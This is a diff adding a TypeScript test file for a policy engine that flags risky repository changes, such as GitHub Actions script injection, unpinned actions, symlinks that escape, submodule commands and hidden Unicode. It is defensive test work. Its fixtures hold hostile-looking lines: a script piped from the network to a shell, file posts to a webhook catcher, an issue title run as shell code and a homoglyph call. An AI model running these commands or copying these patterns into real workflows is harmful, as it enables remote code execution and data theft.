@@ -1,0 +1,361 @@
+import { createHash } from "node:crypto";
+import { expect, test } from "vitest";
+import { contentKey, type FileMode, type ListedFile } from "../../../rules/change/listing.ts";
+import { judge } from "../../../rules/judge.ts";
+import { packSource } from "../../../rules/packs/packs.ts";
+import { loadPolicies } from "../../../rules/policy/load.ts";
+import { evidenceOf } from "../sample-evidence.ts";
+
+/** One version of a file: its text or bytes, and its mode where it is no plain file. */
+type Version = string | Uint8Array | { readonly mode: FileMode; readonly bytes: string };
+
+interface Case {
+  readonly policy: string;
+  readonly decision?: "DENY" | "WARN";
+  readonly when: string;
+  readonly path: string;
+  readonly base?: Version;
+  readonly head: Version;
+}
+
+const CI = ".github/workflows/ci.yml";
+const PIN = "0123456789abcdef0123456789abcdef01234567";
+
+/** A workflow of one job with these steps, whose token may do nothing. */
+function steps(list: string, { on = "push", job = "" } = {}): string {
+  return `on: ${on}\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n${job}    steps:\n${list}`;
+}
+
+const run = (script: string): string => `      - run: ${JSON.stringify(script)}\n`;
+const uses = (action: string, rest = ""): string => `      - uses: ${action}\n${rest}`;
+const checkout = (rest: string): string => uses(`actions/checkout@${PIN}`, rest);
+const plain = steps(run("make"));
+const zip = new Uint8Array([0x50, 0x4b, 3, 4, 0x14, 0, 0, 0, 8, 0]);
+const elf = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0]);
+const title = "echo ${{ github.event.issue.title }}";
+
+const fires: readonly Case[] = [
+  {
+    policy: "undeclared-permissions",
+    when: "a job declares none",
+    path: CI,
+    head: plain.replace("permissions: {}\n", ""),
+  },
+  {
+    policy: "script-injection",
+    when: "a title is run",
+    path: CI,
+    base: plain,
+    head: steps(run(title)),
+  },
+  {
+    policy: "script-injection",
+    when: "an input becomes a title",
+    path: CI,
+    base: steps(run("echo ${{ inputs.title }}")),
+    head: steps(run(title)),
+  },
+  {
+    policy: "standing-injection",
+    decision: "WARN",
+    when: "the script around a title is edited",
+    path: CI,
+    base: steps(run(title)),
+    head: steps(run(`${title} twice`)),
+  },
+  {
+    policy: "untrusted-code",
+    when: "the head of a pull request is checked out beside secrets",
+    path: CI,
+    base: steps(checkout(""), { on: "pull_request_target" }),
+    head: steps(checkout("        with: { ref: '${{ github.head_ref }}' }\n"), {
+      on: "pull_request_target",
+    }),
+  },
+  {
+    policy: "called-code",
+    decision: "WARN",
+    when: "an action checks out whoever called it",
+    path: "action.yml",
+    head: `name: a\nruns:\n  using: composite\n  steps:\n    - uses: actions/checkout@${PIN}\n      with: { ref: "\${{ github.head_ref }}" }\n`,
+  },
+  {
+    policy: "unpinned-action",
+    when: "a pin becomes a tag",
+    path: CI,
+    base: steps(uses(`o/a@${PIN}`)),
+    head: steps(uses("o/a@v1")),
+  },
+  {
+    policy: "mutable-action",
+    decision: "WARN",
+    when: "a tag of others is added",
+    path: CI,
+    base: plain,
+    head: steps(uses("o/a@v1")),
+  },
+  {
+    policy: "mutable-action",
+    decision: "WARN",
+    when: "a pin of GitHub's own becomes a tag",
+    path: CI,
+    base: steps(uses(`actions/cache@${PIN}`)),
+    head: steps(uses("actions/cache@v4")),
+  },
+  {
+    policy: "mutable-action",
+    decision: "WARN",
+    when: "a tag is dressed as a pin",
+    path: CI,
+    base: steps(uses("actions/cache@v4")),
+    head: steps(uses(`actions/cache@v4 # ${PIN}`)),
+  },
+  {
+    policy: "secrets",
+    decision: "WARN",
+    when: "a secret is read",
+    path: CI,
+    base: plain,
+    head: steps(run("x ${{ secrets.KEY }}")),
+  },
+  {
+    policy: "minted-token",
+    decision: "WARN",
+    when: "a token is made of a key",
+    path: CI,
+    base: plain,
+    head: steps(
+      uses(
+        `actions/create-github-app-token@${PIN}`,
+        "        with: { app-id: 1, private-key: k }\n",
+      ),
+    ),
+  },
+  {
+    policy: "self-hosted-runner",
+    decision: "WARN",
+    when: "a job moves to a machine of ours",
+    path: CI,
+    base: plain,
+    head: plain.replace("ubuntu-latest", "self-hosted"),
+  },
+  {
+    policy: "open-container",
+    when: "a container is privileged",
+    path: CI,
+    base: plain,
+    head: steps(run("make"), {
+      job: `    container: { image: 'a@sha256:${PIN}${PIN.slice(0, 24)}', options: --privileged }\n`,
+    }),
+  },
+  {
+    policy: "unsecure-commands",
+    when: "they are allowed",
+    path: CI,
+    base: plain,
+    head: steps(run("make"), { job: "    env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: true }\n" }),
+  },
+  {
+    policy: "persisted-credentials",
+    decision: "WARN",
+    when: "a checkout keeps its token again",
+    path: CI,
+    base: steps(checkout("        with: { persist-credentials: false }\n")),
+    head: steps(checkout("")),
+  },
+  {
+    policy: "remote-script",
+    decision: "WARN",
+    when: "it is piped to a shell",
+    path: CI,
+    base: plain,
+    head: steps(run("curl https://x.example/i | sh")),
+  },
+  {
+    policy: "sent-data",
+    decision: "WARN",
+    when: "a file is posted",
+    path: CI,
+    base: plain,
+    head: steps(run("curl -d @f https://x.example")),
+  },
+  {
+    policy: "data-catcher",
+    when: "it goes to a catcher",
+    path: CI,
+    base: plain,
+    head: steps(run("curl -d @f https://webhook.site/1")),
+  },
+  {
+    policy: "link-outside",
+    when: "a link leaves",
+    path: "a",
+    head: { mode: "120000", bytes: "../x" },
+  },
+  {
+    policy: "changed-type",
+    decision: "WARN",
+    when: "a file becomes a link",
+    path: "a",
+    base: "b",
+    head: { mode: "120000", bytes: "b" },
+  },
+  {
+    policy: "undeclared-submodule",
+    when: "nothing says whose",
+    path: "a",
+    head: { mode: "160000", bytes: "" },
+  },
+  {
+    policy: "submodule-command",
+    when: "git is to run one",
+    path: ".gitmodules",
+    head: '[submodule "a"]\n\tpath = a\n\turl = https://x.example\n\tupdate = !make\n',
+  },
+  {
+    policy: "new-submodule",
+    decision: "WARN",
+    when: "one is added",
+    path: ".gitmodules",
+    head: '[submodule "a"]\n\tpath = a\n\turl = https://x.example\n',
+  },
+  { policy: "opaque-program", when: "a program is added", path: "tool", head: elf },
+  { policy: "opaque-program", when: "an archive has the name of a text", path: "a.yml", head: zip },
+  {
+    policy: "opaque-archive",
+    decision: "WARN",
+    when: "an archive is added",
+    path: "a.zip",
+    head: zip,
+  },
+  {
+    policy: "executable-program",
+    decision: "WARN",
+    when: "bytes become executable",
+    path: "a.zip",
+    base: zip,
+    head: { mode: "100755", bytes: String.fromCharCode(...zip) },
+  },
+  {
+    policy: "generated-alone",
+    decision: "WARN",
+    when: "its source is not changed",
+    path: "dist/a.min.js",
+    base: "1",
+    head: "2",
+  },
+  { policy: "misleading-name", when: "a name hides a character", path: "a\u200bb", head: "x" },
+  { policy: "hidden-text", when: "code is turned around", path: "a.js", head: "x // \u202e y\n" },
+  { policy: "hidden-text", when: "tags are hidden in prose", path: "a.md", head: "x\u{e0041}\n" },
+  {
+    policy: "doubtful-text",
+    decision: "WARN",
+    when: "a space has no width",
+    path: "a.js",
+    head: "const a\u200b = 1;\n",
+  },
+  {
+    policy: "doubtful-text",
+    decision: "WARN",
+    when: "a letter is another's",
+    path: "a.js",
+    head: "p\u0430y();\n",
+  },
+];
+
+function policiesOf({ path, base, head }: Omit<Case, "policy" | "when">): [string, string][] {
+  const contents = new Map<string, Uint8Array>();
+  const file = { path };
+  for (const [side, version] of Object.entries({ base, head })) {
+    if (version === undefined) continue;
+    const { mode, bytes } =
+      typeof version === "string" || version instanceof Uint8Array
+        ? { mode: "100644" as const, bytes: version }
+        : version;
+    const content =
+      typeof bytes === "string"
+        ? mode === "100755"
+          ? Buffer.from(bytes, "latin1")
+          : Buffer.from(bytes)
+        : bytes;
+    if (mode !== "160000") contents.set(contentKey(side as "base" | "head", path), content);
+    Object.assign(file, {
+      [side]: { mode, oid: createHash("sha1").update(content).digest("hex") },
+    });
+  }
+  const evidence = evidenceOf([], []);
+  const pack = packSource("bailiff:recommended");
+  const policies = loadPolicies(pack === null ? [] : [pack], false);
+  const listing = { ...evidence.listing, files: [file as ListedFile] };
+  const { verdict } = judge({ ...evidence, policies, contents, listing });
+  return verdict.reasons.map(({ policyId, decision }) => [policyId, decision]);
+}
+
+test.each(fires)("$policy: $when", ({ policy, decision = "DENY", ...change }) => {
+  expect(policiesOf(change)).toContainEqual([policy, decision]);
+});
+
+test("every policy of the pack is fired here or beside this", () => {
+  const pack = packSource("bailiff:recommended");
+  const ids = loadPolicies(pack === null ? [] : [pack], false).policies.map(({ id }) => id);
+  const beside = ["new-permissions", "privileged-trigger", "unread-file"];
+  expect([...new Set([...fires.map(({ policy }) => policy), ...beside])].sort()).toEqual(
+    ids.sort(),
+  );
+});
+
+test.each<Omit<Case, "policy">>([
+  {
+    when: "a pin moves to another commit",
+    path: CI,
+    base: steps(uses(`o/a@${PIN}`)),
+    head: steps(uses(`o/a@${PIN.replace("0", "f")}`)),
+  },
+  {
+    when: "a tag moves to another tag",
+    path: CI,
+    base: steps(uses("o/a@v1")),
+    head: steps(uses("o/a@v2")),
+  },
+  {
+    when: "a tag of GitHub's own is added",
+    path: CI,
+    base: plain,
+    head: steps(uses("actions/cache@v4")),
+  },
+  {
+    when: "a title goes through env",
+    path: CI,
+    base: plain,
+    head: `${steps(run('echo "$T"'))}        env: { T: '\${{ github.event.issue.title }}' }\n`,
+  },
+  { when: "a checkout is added", path: CI, base: plain, head: steps(checkout("")) },
+  {
+    when: "a job runs elsewhere at GitHub",
+    path: CI,
+    base: plain,
+    head: plain.replace("ubuntu-latest", "macos-15"),
+  },
+  {
+    when: "a script becomes executable",
+    path: "a.sh",
+    base: "#!/bin/sh\n",
+    head: { mode: "100755", bytes: "#!/bin/sh\n" },
+  },
+  { when: "a link stays inside", path: "a/b", head: { mode: "120000", bytes: "../c" } },
+  { when: "a link becomes a file", path: "a", base: { mode: "120000", bytes: "b" }, head: "b" },
+  {
+    when: "a picture is added",
+    path: "a.png",
+    head: new Uint8Array([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0]),
+  },
+  { when: "an archive is removed and a text stands there", path: "a.zip", base: zip, head: "x\n" },
+  {
+    when: "prose joins and turns its letters",
+    path: "a.md",
+    head: "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u200f(x)\u200e \u{1f468}\u200d\u{1f469}\n",
+  },
+  { when: "a Greek letter is a name", path: "a.js", head: "const \u0394t = 1;\n" },
+])("nothing: $when", ({ path, base, head }) => {
+  expect(policiesOf({ path, head, ...(base !== undefined && { base }) })).toEqual([]);
+});
